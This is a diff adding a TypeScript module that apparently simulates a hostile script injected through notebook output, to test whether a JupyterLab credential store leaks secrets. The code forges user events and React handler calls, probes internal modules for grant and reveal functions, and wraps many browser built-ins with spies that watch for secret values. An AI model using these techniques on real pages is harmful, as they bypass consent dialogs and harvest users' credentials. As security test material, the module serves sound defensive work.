@@ -1,0 +1,360 @@
+/** A hostile script, as a notebook's output brings it into the page. */
+
+export interface IEvil {
+  /** What of `secrets` the patched functions have seen, and where. */
+  readonly seen: string[];
+  /** Texts that calls have given. */
+  readonly got: string[];
+  /** Click and type by made-up events, all over an element. */
+  pretend(selector: string): void;
+  /** Call the handlers that React keeps at an element, with made-up events. */
+  react(selector: string): void;
+  /**
+   * Look through everything that can be reached from the document and the window, and call what has
+   * one of these names, with arguments that fit, and these. Resolves with how many there were.
+   */
+  callAll(names: string[], ...more: unknown[][]): Promise<number>;
+  /** A button of the script's, in front of everything, for the person to press. */
+  readonly button: HTMLButtonElement;
+  /** Whether a text can be reached: values of objects, the document, storage. */
+  reaches(text: string): boolean;
+  /** Replace what others call with spies. */
+  patch(...secrets: string[]): void;
+}
+
+declare global {
+  var evil: IEvil;
+}
+
+/** Runs in the page. Nothing from outside this function is there. */
+export function script(): void {
+  type Any = any;
+  const seen: string[] = [];
+  const got: string[] = [];
+
+  const pretend = (selector: string) => {
+    for (const element of document.querySelectorAll<HTMLElement>(selector)) {
+      const at = { bubbles: true, cancelable: true, composed: true, detail: 1 };
+      element.focus();
+      for (const type of ['pointerdown', 'pointerup']) {
+        element.dispatchEvent(new PointerEvent(type, at));
+      }
+      for (const type of ['mousedown', 'mouseup', 'click', 'dblclick']) {
+        element.dispatchEvent(new MouseEvent(type, at));
+      }
+      for (const key of ['Enter', ' ']) {
+        for (const type of ['keydown', 'keypress', 'keyup']) {
+          element.dispatchEvent(new KeyboardEvent(type, { ...at, key }));
+        }
+      }
+      element.click();
+      const label = document.createElement('label');
+      element.id ||= 'evil-target';
+      label.htmlFor = element.id;
+      document.body.append(label);
+      label.click();
+      label.remove();
+    }
+  };
+
+  const react = (selector: string) => {
+    for (const element of document.querySelectorAll<Any>(selector)) {
+      const key = Object.keys(element).find(k => k.startsWith('__reactProps$'));
+      const nativeEvent = { isTrusted: true, target: element };
+      const event = {
+        isTrusted: true,
+        nativeEvent,
+        target: element,
+        currentTarget: element,
+        key: 'Enter',
+        preventDefault: () => 0,
+        stopPropagation: () => 0
+      };
+      for (const [name, handler] of Object.entries(element[key ?? ''] ?? {})) {
+        if (/^on[A-Z]/.test(name)) {
+          void (handler as Any)(event);
+        }
+      }
+    }
+  };
+
+  /** All objects within reach, each once. */
+  const walk = (visit: (owner: Any, name: string, value: Any) => void) => {
+    const known = new Set<Any>();
+    const queue: Any[] = [window];
+    for (const element of document.querySelectorAll<Any>('*')) {
+      for (const key of Object.keys(element)) {
+        if (key.startsWith('__react')) {
+          queue.push(element[key]);
+        }
+      }
+    }
+    // The extension's own modules.
+    (globalThis as Any).webpackChunkjupyterlab_credential_store?.push([
+      ['evil'],
+      {},
+      (load: Any) => {
+        for (const id of Object.keys(load.m)) {
+          try {
+            queue.push(load(id));
+          } catch {
+            // Not a module of this page.
+          }
+        }
+      }
+    ]);
+    while (queue.length && known.size < 400_000) {
+      const owner = queue.shift();
+      const names = new Set<PropertyKey>();
+      for (
+        let at = owner;
+        at && at !== Object.prototype && at !== Function.prototype;
+        at = Object.getPrototypeOf(at)
+      ) {
+        Reflect.ownKeys(at).forEach(name => names.add(name));
+      }
+      for (const name of names) {
+        let value: Any;
+        try {
+          value = owner[name];
+        } catch {
+          continue;
+        }
+        visit(owner, String(name), value);
+        if (
+          value &&
+          (typeof value === 'object' || typeof value === 'function') &&
+          !known.has(value) &&
+          !(value instanceof Node) &&
+          !ArrayBuffer.isView(value)
+        ) {
+          known.add(value);
+          queue.push(value);
+        }
+      }
+      if (owner instanceof Map || owner instanceof Set) {
+        try {
+          for (const value of owner.values()) {
+            if (value && typeof value === 'object' && !known.has(value)) {
+              known.add(value);
+              queue.push(value);
+            }
+          }
+        } catch {
+          // A prototype, or a stand-in.
+        }
+      }
+    }
+  };
+
+  const button = document.createElement('button');
+  button.append('Play');
+  button.style.cssText = 'position:fixed;left:8px;top:200px;z-index:999999';
+  /** As the extension describes a dialog. */
+  const dialog = {
+    root: document.body,
+    allow: { once: button },
+    enter: 'once',
+    delayMs: 0,
+    armed: () => 0
+  };
+
+  const callAll = async (names: string[], ...more: Any[][]) => {
+    const found: { owner: Any; name: string; value: Any }[] = [];
+    const handles = new Set<number>();
+    const ids = new Set<string>();
+    walk((owner, name, value) => {
+      if (typeof value === 'number' && name === 'handle') {
+        handles.add(value);
+      }
+      if (name === 'id' && /^[\w-]{22}$/.test(value)) {
+        ids.add(value);
+      }
+      if (
+        typeof value === 'function' &&
+        names.includes(name.replace(/^_/, '')) &&
+        // Not everything that has a `call` is a client.
+        (name !== 'call' || value.length === 2)
+      ) {
+        found.push({ owner, name, value });
+      }
+    });
+    const attempts: Any[][] = [[{ kind: 'allow', scope: 'once' }], ...more];
+    for (const handle of handles) {
+      const at = { handle, scope: 'once', granted: [...ids] };
+      attempts.push(['grant', at], ['resume', at], [at], [handle, 'once']);
+      attempts.push([handle, dialog], [handle + 1, dialog]);
+    }
+    for (const id of ids) {
+      const at = { id, field: 0 };
+      attempts.push(
+        [id, 0],
+        ['reveal', at],
+        [at],
+        [{ op: 'reveal', args: at }]
+      );
+    }
+    const done = new Set<Any>();
+    const answers: Promise<void>[] = [];
+    for (const { owner, value } of found) {
+      if (done.has(value)) {
+        continue;
+      }
+      done.add(value);
+      for (const attempt of attempts) {
+        try {
+          const answer = value.apply(owner, attempt);
+          answers.push(
+            Promise.resolve(answer)
+              .then(text => void got.push(String(JSON.stringify(text))))
+              // Refused, or nothing that could be a value.
+              .catch(() => undefined)
+          );
+        } catch {
+          // It wants something else.
+        }
+      }
+    }
+    await Promise.race([
+      Promise.all(answers),
+      new Promise(resolve => setTimeout(resolve, 1000))
+    ]);
+    return done.size;
+  };
+
+  const reaches = (text: string) => {
+    let found = document.documentElement.outerHTML.includes(text);
+    for (const field of document.querySelectorAll('input, textarea')) {
+      found ||= (field as HTMLInputElement).value.includes(text);
+    }
+    for (const store of [localStorage, sessionStorage]) {
+      found ||= JSON.stringify(store).includes(text);
+    }
+    walk((owner, name, value) => {
+      if (owner !== globalThis.evil && typeof value === 'string') {
+        found ||= name.includes(text) || value.includes(text);
+      }
+    });
+    return found;
+  };
+
+  const patch = (...secrets: string[]) => {
+    const { apply } = Reflect;
+    const decode = TextDecoder.prototype.decode;
+    const decoder = new TextDecoder();
+    let busy = false;
+    const look = (where: string, thing: Any, depth = 0): void => {
+      let text = '';
+      if (typeof thing === 'string') {
+        text = thing;
+      } else if (thing instanceof ArrayBuffer || ArrayBuffer.isView(thing)) {
+        text = apply(decode, decoder, [thing]);
+      } else if (
+        thing &&
+        typeof thing === 'object' &&
+        depth < 4 &&
+        !(thing instanceof Node) &&
+        !(thing instanceof Event)
+      ) {
+        for (const key of Object.keys(thing)) {
+          look(where, thing[key], depth + 1);
+        }
+      }
+      for (const secret of secrets) {
+        const found = `${where}: ${secret}`;
+        if (text.includes(secret) && !seen.includes(found)) {
+          seen.push(found);
+        }
+      }
+    };
+    const spy = (owner: Any, name: PropertyKey, where: string) => {
+      const original = owner[name];
+      Object.defineProperty(owner, name, {
+        configurable: true,
+        writable: true,
+        value: function (this: Any, ...args: Any[]) {
+          if (!busy) {
+            busy = true;
+            try {
+              look(where, args);
+              look(where, this);
+            } catch {
+              // Not to be looked at.
+            }
+            busy = false;
+          }
+          const result = new.target
+            ? Reflect.construct(original, args, new.target)
+            : apply(original, this, args);
+          if (!busy) {
+            busy = true;
+            try {
+              look(where, result);
+            } catch {
+              // As above.
+            }
+            busy = false;
+          }
+          return result;
+        }
+      });
+    };
+    const targets: Record<string, [Any, ...string[]]> = {
+      Worker: [Worker.prototype, 'postMessage'],
+      JSON: [JSON, 'parse', 'stringify'],
+      Uint8Array: [Object.getPrototypeOf(Uint8Array.prototype), 'set', 'slice'],
+      crypto: [crypto, 'getRandomValues'],
+      Promise: [Promise.prototype, 'then', 'catch', 'finally'],
+      WebSocket: [WebSocket.prototype, 'send'],
+      Function: [Function.prototype, 'call', 'apply', 'bind'],
+      Array: [
+        Array.prototype,
+        ...['push', 'map', 'filter', 'find', 'every', 'some', 'forEach', 'join']
+      ],
+      Map: [Map.prototype, 'set', 'get'],
+      Set: [Set.prototype, 'add', 'has'],
+      WeakMap: [WeakMap.prototype, 'set', 'get'],
+      String: [
+        String.prototype,
+        'slice',
+        'trim',
+        'split',
+        'replace',
+        'charCodeAt'
+      ],
+      EventTarget: [EventTarget.prototype, 'addEventListener', 'dispatchEvent'],
+      TextEncoder: [TextEncoder.prototype, 'encode'],
+      Clipboard: [Clipboard.prototype, 'writeText'],
+      MessagePort: [MessagePort.prototype, 'postMessage'],
+      structuredClone: [window, 'structuredClone', 'fetch', 'btoa', 'atob']
+    };
+    for (const [where, [owner, ...names]] of Object.entries(targets)) {
+      for (const name of names) {
+        spy(owner, name, `${where}.${name}`);
+      }
+    }
+    const data = Object.getOwnPropertyDescriptor(
+      MessageEvent.prototype,
+      'data'
+    )!;
+    Object.defineProperty(MessageEvent.prototype, 'data', {
+      ...data,
+      get(this: MessageEvent) {
+        const value = apply(data.get!, this, []);
+        look('MessageEvent.data', value);
+        return value;
+      }
+    });
+  };
+
+  globalThis.evil = {
+    seen,
+    got,
+    button,
+    pretend,
+    react,
+    callAll,
+    reaches,
+    patch
+  };
+}
